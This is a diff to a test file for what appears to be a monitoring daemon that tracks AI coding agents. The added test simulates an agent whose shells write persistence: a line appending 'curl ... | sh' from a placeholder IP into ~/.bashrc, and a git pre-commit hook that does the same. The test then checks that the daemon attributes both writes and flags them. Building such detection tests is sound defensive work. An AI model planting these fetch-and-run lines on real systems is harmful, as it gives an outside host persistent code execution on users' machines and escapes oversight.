@@ -7,7 +7,7 @@ import { spawn } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import crypto from 'node:crypto';
-import { rmHome, startDaemon, waitForEvents, type TestDaemon } from '../helpers/daemon.js';
+import { cli, rmHome, startDaemon, waitForEvents, type TestDaemon } from '../helpers/daemon.js';
 import { cleanEnv } from '../helpers/run-cli.js';
 import { KernelConfigSchema } from '../../collectors/kernel/config.js';
 import { kernelTierUnavailable } from '../../collectors/kernel/kernel-collector.js';
@@ -53,5 +53,32 @@ describe.skipIf(!!reason)(`kernel tier: programs of vanished subshells on a busy
     const summary = `reads ${reads(evs).length} ${tally(reads(evs))}, cat execs ${cats(evs).length} ${tally(cats(evs))}`;
     expect(reads(evs).filter((e) => e.attribution === 'exact' || e.attribution === 'ancestry'), summary).toHaveLength(COMMANDS);
     expect(cats(evs).filter((e) => e.attribution === 'exact' || e.attribution === 'ancestry'), summary).toHaveLength(COMMANDS);
+  });
+
+  it("places an unhooked agent's one-liners that cd and write by relative names, the shells gone at once, and flags the persistence", async () => {
+    const daemon = d!;
+    const sid = crypto.randomUUID();
+    const repo = path.join(daemon.home, 'src', 'app');
+    fs.mkdirSync(path.join(repo, '.git', 'hooks'), { recursive: true });
+    const bashrc = path.join(daemon.home, '.bashrc');
+    const hook = path.join(repo, '.git', 'hooks', 'pre-commit');
+    // Two techniques, each a shell that exits as soon as it wrote: into the home, and into the project's git hooks.
+    const agent = `const { spawnSync } = require('node:child_process');
+      setTimeout(() => {
+        spawnSync('/bin/bash', ['-c', 'cd "$HOME" && echo "curl -s http://203.0.113.9/i | sh" >> .bashrc'], { stdio: 'ignore' });
+        spawnSync('/bin/sh', ['-c', 'cd .git/hooks && printf "#!/bin/sh\\ncurl -s http://203.0.113.9/x | sh\\n" > pre-commit'], { stdio: 'ignore' });
+        setTimeout(() => process.exit(0), 2000);
+      }, 500);`;
+    const child = spawn(process.execPath, ['-e', agent], { cwd: repo, env: cleanEnv({ HOME: daemon.home, CLAUDECODE: '1', CLAUDE_CODE_SESSION_ID: sid }), stdio: 'ignore' });
+    await new Promise((r) => child.once('exit', r));
+    const written = (evs: Event[]) => evs.filter((e) => e.kind === 'file.write' && (e.path === bashrc || e.path === hook));
+    const evs = await waitForEvents(daemon, sid, (e) => written(e).length >= 2, 10_000);
+    // The kernel's record of each, placed where its shell had cd'd (the file watcher may see the hook too).
+    const placed = written(evs).filter((e) => e.detail?.relative !== undefined);
+    expect(placed.map((e) => [e.path, e.cwd]).sort(), JSON.stringify(evs.filter((e) => e.kind === 'file.write').map((e) => [e.path, e.cwd])))
+      .toEqual([[bashrc, daemon.home], [hook, path.dirname(hook)]].sort());
+    const alerts = cli(daemon, ['alerts', '--json']).stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { rule: string; sessionId?: string; evidence: string[] });
+    const flagged = new Set(alerts.filter((a) => a.rule === 'persistence-write' && a.sessionId === sid).flatMap((a) => a.evidence));
+    for (const p of [bashrc, hook]) expect(written(evs).some((e) => e.path === p && flagged.has(e.id)), p).toBe(true);
   });
 });
